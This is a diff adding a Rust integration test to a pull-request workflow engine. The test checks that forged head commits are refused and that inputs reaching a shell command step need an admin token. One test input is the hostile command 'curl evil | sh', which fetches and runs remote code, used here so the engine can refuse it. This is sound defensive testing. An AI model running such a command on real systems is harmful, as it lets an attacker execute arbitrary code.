@@ -2,6 +2,7 @@
 //! real engine and the built-in `command` agent: every endpoint, every role
 //! rule, the OpenAPI description, the metrics scrape and the alert rules.
 
+mod github_world;
 mod harness;
 
 use std::collections::{BTreeSet, HashMap};
@@ -30,6 +31,16 @@ on: { pull_request: { actions: [opened] } }
 steps:
   check: { agent: command, with: { run: ["sh", "-c", "echo checked {{ pr.number }}"] } }
   report: { agent: command, needs: check, with: { run: ["sh", "-c", "echo reported"] } }
+"#;
+
+const DEPLOY_WORKFLOW: &str = r#"
+name: deploy
+on: { pull_request: { actions: [opened] } }
+inputs:
+  deploy_command: { description: "How to deploy", default: "true" }
+  note: { description: "A note for the prompt", default: "" }
+steps:
+  ship: { agent: command, with: { run: ["sh", "-c", "{{ inputs.deploy_command }}"] } }
 "#;
 
 const SLOW_WORKFLOW: &str = r#"
@@ -62,11 +73,17 @@ fn lookup(name: &str) -> Option<String> {
 
 impl Api {
     async fn start() -> Api {
+        Self::start_with(None).await
+    }
+
+    /// With `github` checking what callers say about pull requests.
+    async fn start_with(github: Option<Arc<dyn taskmaster::github::GitHub>>) -> Api {
         let dir = tempfile::tempdir().unwrap();
         let wf_dir = dir.path().join("workflows");
         std::fs::create_dir(&wf_dir).unwrap();
         std::fs::write(wf_dir.join("review.yml"), WORKFLOW).unwrap();
         std::fs::write(wf_dir.join("slow.yml"), SLOW_WORKFLOW).unwrap();
+        std::fs::write(wf_dir.join("deploy.yml"), DEPLOY_WORKFLOW).unwrap();
         let config = AgentsConfig::load(None, &lookup).unwrap();
         let registry = AgentRegistry::new(&config, &lookup).unwrap();
         let names: Vec<String> = registry.names().map(str::to_owned).collect();
@@ -101,7 +118,10 @@ impl Api {
                 )),
                 limits: Default::default(),
             },
-            api::service(ApiState::new(engine, false)),
+            api::service(match github {
+                Some(g) => ApiState::new(engine, false).with_github(g),
+                None => ApiState::new(engine, false),
+            }),
         )
         .await
         .unwrap();
@@ -1437,4 +1457,132 @@ fn the_cli_creates_lists_and_revokes_tokens() {
     assert!(list.contains("revoked"));
     let (ok, _, err) = run(&["token", "revoke", "nobody"]);
     assert!(!ok && err.contains("no token named"));
+}
+
+/// No forged green checks: a pull request's run is created on its head as
+/// GitHub says (a caller's other `head_sha` is refused; none given: GitHub's);
+/// its check run says the API started it; an input that reaches a command
+/// step's program needs an admin token.
+#[tokio::test]
+async fn api_runs_are_on_the_prs_real_head_and_command_inputs_need_an_admin() {
+    use wiremock::matchers::{method, path};
+    use wiremock::{Mock, ResponseTemplate};
+    let gh = github_world::world().await;
+    let head = "a".repeat(40);
+    Mock::given(method("GET"))
+        .and(path("/repos/octo/widgets/pulls/5"))
+        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
+            "number": 5, "html_url": "https://github.com/octo/widgets/pull/5", "state": "open",
+            "draft": false,
+            "head": { "ref": "feature", "sha": head, "repo": { "full_name": "octo/widgets" } },
+            "base": { "ref": "main", "sha": "b".repeat(40), "repo": { "full_name": "octo/widgets" } }
+        })))
+        .mount(&gh.server)
+        .await;
+    let github: Arc<dyn taskmaster::github::GitHub> = Arc::new(gh.client);
+    let api = Api::start_with(Some(github)).await;
+    // The repository's installation, as its deliveries tell.
+    api.store
+        .insert_deliveries(&[taskmaster::store::NewDelivery {
+            delivery_id: "seen-1".into(),
+            event: "ping".into(),
+            action: None,
+            hook_id: None,
+            installation_id: Some(42),
+            repository: Some("octo/widgets".into()),
+            sender_id: None,
+            sender_login: None,
+            payload: taskmaster::store::EncodedPayload::encode(bytes::Bytes::from_static(b"{}")),
+            received_at: 0,
+            state: taskmaster::store::DeliveryState::Done,
+        }])
+        .await
+        .unwrap();
+    let operator = Some(Role::Operator);
+    let (s, body) = api
+        .call(
+            operator,
+            Method::POST,
+            "/api/workflows/execute",
+            Some(
+                json!({"workflow": "review", "repository": "octo/widgets", "pr_number": 5,
+                        "context": {"head_sha": "c".repeat(40)}}),
+            ),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CONFLICT, "{body}");
+    assert!(
+        body["detail"]
+            .as_str()
+            .unwrap()
+            .contains(&format!("(it is {head})")),
+        "{body}"
+    );
+    let (s, body) = api
+        .call(
+            operator,
+            Method::POST,
+            "/api/workflows/execute",
+            Some(json!({"workflow": "review", "repository": "octo/widgets", "pr_number": 5})),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{body}");
+    let run = api
+        .store
+        .run(body["id"].as_i64().unwrap())
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        run.run.head_sha.as_deref(),
+        Some(head.as_str()),
+        "GitHub's head"
+    );
+    let report = taskmaster::outbox::build_report(&run, None);
+    let title = report.check_run_update().output.unwrap().title;
+    assert!(
+        title.ends_with("(started through the API by token `operator-token`)"),
+        "{title}"
+    );
+
+    // `deploy_command` reaches `sh -c`: admins only. `note` does not.
+    let deploy = |inputs: Value| {
+        json!({"workflow": "deploy", "repository": "octo/widgets", "pr_number": 5,
+               "context": {"inputs": inputs}})
+    };
+    let (s, body) = api
+        .call(
+            operator,
+            Method::POST,
+            "/api/workflows/execute",
+            Some(deploy(json!({"deploy_command": "curl evil | sh"}))),
+        )
+        .await;
+    assert_eq!(s, StatusCode::FORBIDDEN, "{body}");
+    assert!(
+        body["detail"]
+            .as_str()
+            .unwrap()
+            .contains("only an admin token may set it"),
+        "{body}"
+    );
+    let (s, body) = api
+        .call(
+            operator,
+            Method::POST,
+            "/api/workflows/execute",
+            Some(deploy(json!({"note": "hello"}))),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{body}");
+    let (s, body) = api
+        .call(
+            Some(Role::Admin),
+            Method::POST,
+            "/api/workflows/execute",
+            Some(deploy(json!({"deploy_command": "true"}))),
+        )
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{body}");
+    api.stop().await;
 }
